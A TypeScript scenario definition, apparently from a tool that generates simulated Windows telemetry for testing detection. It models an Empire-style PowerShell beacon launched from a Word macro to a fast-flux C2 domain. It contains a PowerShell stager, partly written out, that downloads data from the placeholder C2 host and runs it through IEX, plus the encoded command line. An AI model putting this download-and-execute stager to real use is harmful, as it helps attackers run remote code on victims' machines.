/**
 * An Empire-style PowerShell agent whose C2 name fast-fluxes: every 60-second answer is three addresses
 * from a 24-address pool, so the connections spread over many DestinationIp values and any per-IP
 * aggregation sees only a few each. Symmetric jitter (120 s ± 30 %, U[84, 156] s) as Empire applies it
 * [R2][R15]; HTTP on port 80 (Empire's default listener) [R15]. Launched from a Word macro, then from a
 * Run key as `powershell -noP -sta -w 1 -enc …`, with the decoded stager in 4104 (Warning level).
 */
import type { Scenario } from '../source.js';
import { beaconEpisodes } from './beacon.js';
import { implantStart, longRunningHost } from './plan.js';
import { C2, fastFluxDest, rotatingPool } from './infra.js';
import { describeSleep, type SleepModel } from '../jitter.js';
import { processCreate } from '../build.js';

const SLEEP: SleepModel = { kind: 'symmetric', sleepS: 120, jitter: 0.3 };
const PWSH = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';

const STAGER = [
  '$wc = New-Object System.Net.WebClient',
  "$u = 'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko'",
  "$wc.Headers.Add('User-Agent', $u)",
  '$wc.Proxy = [System.Net.WebRequest]::DefaultWebProxy',
  '$wc.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials',
  `$ser = 'http://${C2.rotating.name}:80'`,
  "$t = '/admin/get.php'",
  "$wc.Headers.Add('Cookie', 'session=QmFzZTY0U2Vzc2lvbktleQ==')",
  '$data = $wc.DownloadData($ser + $t)',
  '$iv = $data[0..3]; $data = $data[4..$data.length]',
  "-join [Char[]](& $R $data ($IV + $K)) | IEX",
].join('\n');

const ENCODED = Buffer.from(STAGER, 'utf16le').toString('base64');

export const rotatingIp: Scenario = {
  name: 'rotating-ip',
  title: 'Beacon to a domain whose IP rotates (fast flux)',
  description: `powershell.exe (Empire-style stager, -enc), ${describeSleep(SLEEP)}, HTTP :80 to ${C2.rotating.name}, answers rotate every 60 s through ${C2.rotating.pool} addresses.`,
  infrastructure: [`${C2.rotating.name} → 198.51.100.100–115, 203.0.113.200–207 (TTL 60 s, 3 answers)`],
  steps: ['initial-execution', 'persistence-start', 'script-block', 'dns-lookup', 'callback', 'tasking'],
  pickHosts: (estate) => {
    const h = longRunningHost(estate, 'rotating-ip');
    return h === null ? [] : [h];
  },
  episodes: (ctx) => {
    const start = implantStart(ctx.host, ctx.rng.fork('start'));
    if (start === null) return [][Symbol.iterator]();
    const dest = fastFluxDest(C2.rotating.name, rotatingPool(), C2.rotating.port);
    return beaconEpisodes(ctx, {
      startMs: start,
      persistence: ctx.host.user !== null ? 'logon' : 'boot',
      spawn: (session, logon, t, first) => {
        if (first && logon !== undefined) {
          // The macro's host: Word opened the attachment a few seconds earlier.
          const word = session.spawn(
            { image: WORD, commandLine: `"${WORD}" /n "C:\\Users\\${logon.user.sam}\\Downloads\\Remittance_advice.docm" /o ""` },
            t - 9000,
            logon.explorer,
            logon,
          );
          return {
            spec: { image: PWSH, commandLine: `powershell -noP -sta -w 1 -enc ${ENCODED}` },
            parent: word,
            extra: [processCreate(ctx.rng, session, word, ctx.step('initial-execution'))],
          };
        }
        return { spec: { image: PWSH, commandLine: `powershell -noP -sta -w 1 -enc ${ENCODED}` }, parent: logon?.explorer ?? session.services };
      },
      sleep: SLEEP,
      dest: () => dest,
      processingMs: [100, 700],
      taskingPerHour: 0.3,
      scriptBlock: { text: STAGER, warning: true },
    });
  },
};
